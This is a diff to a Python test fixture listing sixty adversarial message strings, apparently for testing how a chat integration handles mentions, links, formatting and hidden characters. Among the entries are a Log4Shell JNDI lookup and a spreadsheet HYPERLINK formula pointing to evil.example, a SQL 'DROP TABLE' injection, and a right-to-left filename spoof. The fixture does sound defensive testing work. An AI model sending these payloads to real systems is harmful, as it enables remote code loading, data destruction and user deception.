@@ -1,4 +1,4 @@
-"""Sixty texts that want to be more than text: mentions, links, marks, hidden letters, too much of everything."""
+"""Sixty texts that want to be more: mentions, links, marks, hidden letters, too much of everything."""
 
 _LONG = "All work and no play. "
 
@@ -15,7 +15,8 @@ TEXTS: tuple[str, ...] = (
     "```", "> quote\n>>> more", ":rotating_light: :fire:", "\u202egnp.exe\u202c", "\u2066hidden\u2069",
     "A\u200b\u200c\u200d\ufeffB", "nul\x00 bell\x07 escape\x1b[31m", "line\r\nbreak\rbreak\u2028more\u2029",
     "{name} {account.__class__} %s {0}", "${jndi:ldap://evil.example/a}", "'; DROP TABLE account; --",
-    "=HYPERLINK(\"https://evil.example\")", "e\u0301" * 60 + "Z\u0335\u0336\u0337" * 30, "\U0001f469\u200d\U0001f680" * 40,
+    "=HYPERLINK(\"https://evil.example\")", "e\u0301" * 60 + "Z\u0335\u0336\u0337" * 30,
+    "\U0001f469\u200d\U0001f680" * 40,
     "<!channel>" * 300, _LONG * 1900, "&" * 2999 + "<!here>", "x" * 74 + "<!channel>",
 )  # fmt: skip
 
